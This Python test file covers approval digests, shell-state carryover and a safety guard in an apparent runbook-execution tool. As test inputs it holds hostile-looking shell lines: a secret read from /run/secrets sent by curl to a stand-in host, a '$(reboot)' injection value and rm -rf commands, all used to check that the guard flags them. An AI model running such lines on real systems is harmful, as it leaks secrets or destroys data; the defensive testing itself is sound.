"""What exactly runs, and that an approval is good for exactly that: the digest, and what a fence sets for its lines."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from tocsin.incident.book import number_steps
from tocsin.incident.state import StepRecord
from tocsin.playbook.model import Playbook, Statement
from tocsin.run.guard import Refused, judge
from tocsin.run.program import Task, prepare
from tocsin.run.setting import Tangle, find_setting, sets_only
from tocsin.words import Effect, StepState, Tag

from .scene import JUDGE, TARGET, Scene, run_bash, seen

FENCES = """
### Diagnosis

```bash
docker logs <container>
docker logs <container>
df -h
```

### Mitigation

```bash
cd srv
export MODE=safe
LIMIT=5
free -h; echo "$MODE$LIMIT"
cd logs
pwd
```

```bash
uptime
```

```bash
cd outer
# If the disk is still full
cd inner
ls one
# Otherwise
ls two
ls three
```

1. **If it is the old host**:

   ```bash
   cd old
   # If it is still full
   ls four
   ```
"""


@pytest.fixture(scope="module")
def playbook() -> Playbook:
    return Scene(FENCES).playbook


@pytest.fixture
def scene(playbook: Playbook) -> Scene:
    return Scene(playbook)


# ── the digest ─────────────────────────────────────────────────────────────────────────────────────────────────────


def again(scene: Scene, step: str, **record: object) -> Task:
    """The task of a step of which something is known already."""
    known = StepRecord(step=step, state=StepState.OK, **record)  # type: ignore[arg-type]
    incident = replace(scene.incident, steps={step: known})
    task = prepare(scene.book.procedures(incident), step, incident, TARGET, {})
    assert task is not None
    return task


def test_the_same_run_has_the_same_digest(scene: Scene) -> None:
    assert scene.task("df -h").digest == scene.task("df -h").digest
    assert len(scene.task("df -h").digest) == 64


def test_a_digest_is_of_one_target_and_one_incident(scene: Scene) -> None:
    digests = {scene.task("df -h", target=target).digest for target in ("team/a", "team/b")}
    scene.incident = replace(scene.incident, id="team-2")
    digests.add(scene.task("df -h", target="team/a").digest)
    assert len(digests) == 3


def test_a_digest_is_of_the_values(scene: Scene) -> None:
    text = "docker logs <container>"
    digests = [scene.task(text, {"container": value}).digest for value in ("web", "db", "web")]
    assert digests[0] == digests[2] != digests[1]


def test_a_value_that_arrives_from_a_label_is_the_same_as_a_given_one(scene: Scene) -> None:
    given_by_hand = scene.task("docker logs <container>", {"container": "web"})
    scene.incident = replace(scene.incident, alerts={"f": seen(container="web")})
    assert scene.task("docker logs <container>").digest == given_by_hand.digest


def test_two_steps_with_the_same_text_are_two(scene: Scene) -> None:
    procedures = scene.book.procedures(scene.incident)
    lines = [step.line for step in scene.scenario.steps if step.text == "docker logs <container>"]
    tasks = [prepare(procedures, f"L{line}", scene.incident, TARGET, {"container": "web"}) for line in lines]
    assert len({task.digest for task in tasks if task}) == len(lines) == 2


def test_what_was_typed_once_is_known_again_and_is_each_time_of_its_own_incident_and_run(scene: Scene) -> None:
    first = scene.typed("touch /srv/flag")
    assert scene.typed("touch /srv/flag") == first
    scene.incident = replace(scene.incident, id="team-2")
    second = scene.typed("touch /srv/flag")
    assert (second.bound, second.id) == (first.bound, first.id)
    assert second.digest != first.digest
    assert len({first.digest, second.digest, scene.typed("touch  /srv/flag").digest}) == 3


def test_what_was_typed_is_looked_at_anew_under_other_settings(scene: Scene) -> None:
    record = StepRecord(step="A1", state=StepState.WAITING, text="touch f", effect=Effect.MUTATE, proposed_by="ana")
    incident = replace(scene.incident, steps={"A1": record})
    may = scene.book.policy
    assert may.target is not None
    may_not = replace(may, targets=(replace(may.target, changes=False),))
    for policy, refused in ((may, False), (may_not, True), (may, False)):
        task = prepare((), "A1", incident, may.target.name, {}, policy)
        assert task is not None
        assert bool(task.bound.refused) is refused


def test_a_typed_blank_is_filled_with_what_is_given_each_time(scene: Scene) -> None:
    text = "docker logs <container>"
    filled = [scene.typed(text, given).bound.values for given in ({"container": "web"}, {"container": "db"})]
    assert filled == [{"container": "web"}, {"container": "db"}]
    assert scene.typed(text).bound.missing == ("container",)


def test_a_further_run_needs_a_further_approval(scene: Scene) -> None:
    step = scene.lines()["df -h"]
    first, second, third = scene.task("df -h"), again(scene, step, intent=7), again(scene, step, intent=9)
    assert len({first.digest, second.digest, third.digest}) == 3


@pytest.mark.parametrize("change", [{"state": StepState.FAILED}, {"approved_by": "ana"}, {"why": "x"}, {"digest": "x"}])
def test_what_has_not_run_since_has_the_digest_that_was_looked_at(scene: Scene, change: dict[str, object]) -> None:
    step = scene.lines()["df -h"]
    record = StepRecord(**{"step": step, "state": StepState.OK, **change})  # type: ignore[arg-type]
    scene.incident = replace(scene.incident, steps={step: record})
    assert scene.task("df -h").digest == Scene(scene.playbook).task("df -h").digest


def test_what_a_fence_sets_is_part_of_the_digest(scene: Scene) -> None:
    other = Scene(FENCES.replace("LIMIT=5", "LIMIT=6"))
    assert scene.task("uptime").digest == other.task("uptime").digest, "it stands in a fence of its own"
    assert scene.task("pwd").digest != other.task("pwd").digest


@given(values=st.lists(st.from_regex(r"[a-z0-9]{1,4}", fullmatch=True), min_size=4, max_size=4))
def test_no_value_can_be_shifted_from_one_blank_into_the_next(values: list[str]) -> None:
    scene = Scene("\n### Diagnosis\n\n```bash\ncat <one> <two>\n```\n")
    first, second = ({"one": a, "two": b} for a, b in (values[:2], values[2:]))
    same = scene.task("cat <one> <two>", first).digest == scene.task("cat <one> <two>", second).digest
    assert same == (first == second)


# ── what a fence sets ──────────────────────────────────────────────────────────────────────────────────────────────


def above(scene: Scene, statement: str) -> list[str]:
    """What is put in front of a statement."""
    text = scene.task(statement).bound.text
    assert text == statement or text.endswith(f" &&\n{{\n{statement}\n}}")
    return [] if text == statement else text.removesuffix(f" &&\n{{\n{statement}\n}}").split(" &&\n")


def test_a_playbook_that_is_read_again_puts_nothing_else_in_front() -> None:
    """What stands below in the fence never travels, however often settings were taken over."""
    text = "\n### Diagnosis\n\n```bash\nls one\ncd srv\nls two\ncd srv\nls one\n```\n"
    for _ in range(3):
        again = Scene(text)
        assert above(again, "ls two") == ["cd srv"]
        ids = [step_id for step_id, step in number_steps(again.scenario) if step.text == "ls one"]
        tasks = [prepare((again.scenario,), step_id, again.incident, TARGET, {}) for step_id in ids]
        assert [task is not None and task.bound.text.count("cd srv") for task in tasks] == [0, 2]


def test_what_stands_above_in_the_fence_travels_along(scene: Scene) -> None:
    assert above(scene, 'echo "$MODE$LIMIT"') == ["cd srv", "export MODE=safe", "LIMIT=5"]


CARRIED = {
    "the directory": (["cd srv", "ls"], ["uptime"], ["cd srv"]),
    "the last one": (["cd srv", "cd logs"], ["uptime"], ["cd srv", "cd logs"]),
    "not where it goes to one of its own": (["cd srv"], ["cd srv", "uptime"], ["cd srv"]),
    "not where the line itself goes": (["cd srv"], ["cd srv && uptime"], []),
    "where it goes on from there": (["cd srv/a"], ["cd ../b", "uptime"], ["cd srv/a", "cd ../b"]),
    "an exported value": (["export MODE=safe"], ["uptime"], ["export MODE=safe"]),
    "a variable that is named": (["N=5", "M=6"], ['echo "$N"'], ["N=5"]),
    "one that is named by one that is named": (["N=5", "M=$N"], ["echo $M"], ["N=5", "M=$N"]),
    "not a value that must be fetched and is not named": (["export TOKEN=$(./login.sh)"], ["uptime"], []),
    "one that is": (["export TOKEN=$(./login.sh)"], ["echo ${TOKEN}"], ["export TOKEN=$(./login.sh)"]),
    "no options": (["set -e"], ["uptime"], []),
    "no directory that nobody knows": (["mkdir new && cd new"], ["uptime"], []),
}


@pytest.mark.parametrize(("first", "second", "carried"), CARRIED.values(), ids=CARRIED)
def test_what_earlier_fences_leave_in_the_shell(first: list[str], second: list[str], carried: list[str]) -> None:
    fences = ("\n```bash\n" + "\n".join(lines) + "\n```\n" for lines in (first, second))
    assert above(Scene("\n### Diagnosis\n" + "\nThen:\n".join(fences)), second[-1]) == carried


def test_what_a_way_sets_holds_on_no_other() -> None:
    way = "\n**{}:**\n\n```bash\n{}\n```\n"
    scene = Scene("\n### Resolution\n" + way.format("Option A", "cd a\nls a") + way.format("Option B", "ls b"))
    assert above(scene, "ls b") == []


def test_another_path_sets_nothing_here(scene: Scene) -> None:
    assert above(scene, "ls one") == ["export MODE=safe", "cd outer", "cd inner"]
    assert above(scene, "ls two") == ["export MODE=safe", "cd outer"]
    assert above(scene, "ls three") == ["export MODE=safe", "cd outer"]


def test_the_path_around_sets_it_here_too(scene: Scene) -> None:
    """What is to be done if it is still full is done where the step around it went."""
    assert above(scene, "ls four") == ["export MODE=safe", "cd old"]


def test_several_statements_of_one_line_share_what_they_set(scene: Scene) -> None:
    one_line = Scene("\n### Diagnosis\n\n```bash\ncd srv; ls one; export A=1; ls two\n```\n")
    assert above(one_line, "ls one") == ["cd srv"]
    assert above(one_line, "ls two") == ["cd srv", "export A=1"]


def test_it_runs_where_and_with_what_the_author_meant(scene: Scene, tmp_path: Path) -> None:
    (tmp_path / "srv" / "logs").mkdir(parents=True)
    assert run_bash(scene.task('echo "$MODE$LIMIT"').bound, tmp_path).stdout == "safe5\n"
    assert run_bash(scene.task("pwd").bound, tmp_path).stdout == f"{tmp_path}/srv/logs\n"


def test_it_does_not_run_at_all_where_the_directory_is_missing(tmp_path: Path) -> None:
    scene = Scene("\n### Recovery\n\n```bash\ncd srv\nrm -rf data\n```\n")
    (tmp_path / "data").mkdir()
    assert run_bash(scene.task("rm -rf data").bound, tmp_path).code != 0
    assert (tmp_path / "data").exists()


def test_a_blank_in_what_is_set_must_be_filled_too(tmp_path: Path) -> None:
    scene = Scene("\n### Diagnosis\n\n```bash\ncd <folder>\nls\n```\n")
    assert scene.task("ls").bound.missing == ("folder",)
    (tmp_path / "here").mkdir()
    (tmp_path / "here" / "x").touch()
    assert run_bash(scene.task("ls", {"folder": "here"}).bound, tmp_path).stdout == "x\n"


def test_effect_and_tags_are_the_highest_of_the_whole_program() -> None:
    scene = Scene(
        "\n### Diagnosis\n\n```bash\nexport PATH=/opt/x:$PATH\nTOKEN=$(sudo cat /etc/hosts)\nls $TOKEN\n```\n"
    )
    task = scene.task("ls $TOKEN")
    assert (task.statement.effect, task.effect) == (Effect.READ, Effect.UNKNOWN)
    assert Tag.PRIVILEGED in task.tags


WHOLE = [
    "cd srv",
    "cd",
    "cd -",
    "pushd x > /dev/null",
    "popd",
    "export A=1",
    "export A=1 B=2",
    "A=1",
    "A=1 B=2",
    "A+=1",
    "A=$(date)",
    "declare -a X=(1 2)",
    "unset A",
    "set -e",
    "set -o pipefail",
    "umask 077",
    "cd srv || exit 1",
    "cd srv && export A=1",
    "TOKEN=$(./login.sh)",
]
NOTHING = [
    "ls",
    "export",
    "declare -p",
    "set",
    "A=1 make",
    "(cd srv; make)",
    "echo $A",
    "cd srv | tee log",
    "echo cd srv",
]
BEGINNING = {
    "cd srv && rm -rf cache": "cd srv",
    "cd srv && make && make install": "cd srv",
    "cd srv && cd logs && ls": "cd srv && cd logs",
    "cd srv && A=$(date) && ls": "cd srv && A=$(date)",
}
TANGLED = [
    "mkdir x && cd x",
    "cd srv || mkdir srv",
    "if true; then cd x; fi",
    "for d in a b; do cd $d; done",
    "A=$(rm -rf x)",
    "ID=$(docker run -d nginx)",
    "cd $(mktemp -d)",
    "while true; do A=1; done",
]


@pytest.mark.parametrize("text", WHOLE)
def test_what_only_sets_travels_whole_and_never_runs_by_itself(text: str) -> None:
    statement = JUDGE(text)
    assert find_setting(statement) == statement
    assert sets_only(statement)


@pytest.mark.parametrize("text", NOTHING)
def test_what_sets_nothing_for_the_next_line_stays_where_it_is(text: str) -> None:
    assert find_setting(JUDGE(text)) is None
    assert not sets_only(JUDGE(text))


@pytest.mark.parametrize("text", BEGINNING)
def test_only_the_setting_beginning_of_a_chain_travels(text: str) -> None:
    """Or approving a harmless line would do again what the line above it did."""
    found = find_setting(JUDGE(text))
    assert isinstance(found, Statement)
    assert found.text == BEGINNING[text]
    assert not sets_only(JUDGE(text))


def test_what_travels_does_not_bring_the_effect_of_what_stays_behind() -> None:
    scene = Scene("\n### Recovery\n\n```bash\ncd srv && rm -rf cache\nls\n```\n")
    task = scene.task("ls")
    assert (task.bound.text, task.effect, task.tags) == ("cd srv &&\n{\nls\n}", Effect.READ, (Tag.SESSION_STATE,))


@pytest.mark.parametrize("text", TANGLED)
def test_what_sets_and_does_more_keeps_the_lines_below_it_from_running_in_the_wrong_place(text: str) -> None:
    assert isinstance(find_setting(JUDGE(text)), Tangle)
    scene = Scene(f"\n### Recovery\n\n```bash\n{text}\nls below\n```\n\n```bash\nls elsewhere\n```\n")
    verdict = judge(scene.task("ls below"), scene.incident, scene.book)
    assert isinstance(verdict, Refused)
    assert "run them by hand" in verdict.why
    assert not scene.task("ls elsewhere").bound.refused


def test_a_step_that_holds_no_statement_has_no_task() -> None:
    scene = Scene("\n### Diagnosis\n\n- Look at the dashboard\n\n```bash\ndf -h\n```\n")
    procedures = scene.book.procedures(scene.incident)
    by_hand = [step_id for step_id, step in number_steps(procedures[0]) if step.statement is None]
    assert len(by_hand) == 1
    for step_id in (*by_hand, "L1", "A1", ""):
        assert prepare(procedures, step_id, scene.incident, TARGET, {}) is None


@pytest.mark.parametrize(
    ("above", "effect"),
    [
        ("HEIGHT=$(curl -s http://h/height)", Effect.UNKNOWN),
        ("HEIGHT=$(cat height)", Effect.UNKNOWN),
        ("HEIGHT='a[$(reboot)]'", Effect.UNKNOWN),
        ("HEIGHT=$(docker ps -q | wc -l)", Effect.READ),
        ("HEIGHT=7", Effect.NOOP),
    ],
)
def test_a_value_that_a_line_above_fetched_is_not_evaluated_by_itself(above: str, effect: Effect) -> None:
    scene = Scene(f'\n### Diagnosis\n\n```bash\n{above}\necho "$((HEIGHT + 1)) blocks"\n```\n')
    task = scene.task('echo "$((HEIGHT + 1)) blocks"')
    assert task.effect is effect
    assert (task.statement.why.startswith("a shell may evaluate")) == (effect is Effect.UNKNOWN)


@pytest.mark.parametrize(
    ("above", "effect"), [("cat /run/secrets/x", Effect.UNKNOWN), ("date +%s", Effect.READ), ("env", Effect.UNKNOWN)]
)
def test_what_a_line_above_may_have_set_to_a_secret_is_not_sent_along_by_itself(above: str, effect: Effect) -> None:
    scene = Scene(f"\n### Diagnosis\n\n```bash\nT=$({above})\ncurl -s https://h.example/$T\nls $T\n```\n")
    assert scene.task("curl -s https://h.example/$T").effect is effect
    assert scene.task("ls $T").effect is not Effect.UNKNOWN
